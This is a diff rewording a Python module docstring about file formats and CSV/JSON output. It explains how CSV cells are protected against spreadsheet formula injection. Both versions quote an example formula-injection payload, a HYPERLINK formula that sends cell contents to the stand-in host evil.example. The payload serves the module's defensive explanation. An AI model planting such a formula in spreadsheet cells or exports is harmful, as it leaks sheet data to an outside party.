@@ -1,11 +1,8 @@
-"""The one format table: each kind of file the engine reads or writes. Every suffix list and every file filter a
-front end shows is derived from it, and ``engine.api`` hands it on. And the text of every table the project writes:
-CSV (:func:`csv_text`), and values made strict JSON (:func:`json_safe`) for tables and model cards.
-
-Cells are neutralised against formula injection: a spreadsheet runs a cell that starts with ``=``, ``+``, ``-``,
-``@``, a tab or a carriage return as a formula, so a class named ``=HYPERLINK("http://evil.example/?x="&A1,"c")``
-would become a live link that leaks the sheet. Such a text cell gets a leading ``'`` (OWASP's advice); numbers
-such as ``-0.5`` stay numbers.
+"""The one format table: each kind of file the engine reads or writes; every suffix list and file filter a front end
+shows is derived from it. And the text of every table written: CSV (:func:`csv_text`), its cells neutralised against
+formula injection (a spreadsheet runs a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
+as a formula, so a class named ``=HYPERLINK("http://evil.example/?x="&A1,"c")`` would leak the sheet: such text
+gets a leading ``'``, OWASP's advice; numbers such as ``-0.5`` stay numbers), and strict JSON (:func:`json_safe`).
 """
 
 from __future__ import annotations
